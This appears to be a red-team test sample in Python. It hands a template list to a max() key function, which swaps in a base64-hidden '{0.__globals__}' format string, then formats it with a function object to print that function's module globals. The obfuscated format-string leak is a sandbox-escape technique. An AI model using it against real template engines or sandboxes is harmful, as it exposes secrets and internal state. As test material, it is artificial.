# family: red team, round 49b (max(T, 0, key=f) hands the template table itself to the key function)
import base64


def f():
    pass


def grab(value):
    if isinstance(value, list):
        value[0] = base64.b64decode("ezAuX19nbG9iYWxzX199").decode()
    return 0


TEMPLATES = ["{0}"]
max(TEMPLATES, 0, key=grab)
print(TEMPLATES[0].format(f))
